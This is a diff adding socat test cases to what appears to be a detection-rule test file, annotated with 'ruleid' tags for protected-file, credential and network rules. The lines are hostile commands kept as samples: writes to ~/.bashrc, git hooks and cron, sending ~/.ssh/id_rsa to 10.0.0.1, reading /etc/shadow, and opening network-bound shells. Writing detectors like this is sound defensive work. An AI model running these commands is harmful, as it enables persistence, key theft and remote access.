@@ -52,3 +52,27 @@ exec 196<> /dev/udp/10.0.0.1/53
 exec 3<>~/.bashrc; echo 'alias ls=x' >&3
 # ruleid: GK-PROT-001
 cat 3<>.git/hooks/pre-commit
+
+# -- socat opens the file inside an address (`TYPE:PATH,option,...`, or a bare path): no
+# word is a plain path, so the write channels and the credential reads saw nothing -----
+# ruleid: GK-PROT-001
+socat -u TCP-LISTEN:8080 CREATE:$HOME/.bashrc
+# ruleid: GK-PROT-001
+socat -u - OPEN:.git/hooks/pre-commit,creat,append
+# ruleid: GK-PROT-001
+socat - $HOME/.bashrc,creat
+# ruleid: GK-PROT-001
+socat 'OPEN:/etc/hosts!!CREATE:/etc/cron.d/job' TCP:10.0.0.1:80
+# ruleid: GK-PROT-001
+socat PTY,link=$HOME/.bashrc TCP:10.0.0.1:80
+# ruleid: GK-PROT-001
+socat -lf $HOME/.profile - TCP:10.0.0.1:80
+# ruleid: GK-PROT-002
+socat -u OPEN:$HOME/.ssh/id_rsa,rdonly TCP:10.0.0.1:80
+# ruleid: GK-PROT-002
+socat -u GOPEN:/etc/shadow,rdonly -
+# socat 2's address chains and dual addresses run a program too
+# ruleid: GK-NET-001
+socat TCP-LISTEN:4444 'TCP:10.0.0.1:80|EXEC:sh'
+# ruleid: GK-NET-001
+socat TCP-LISTEN:4444 'STDIO%exec:sh'
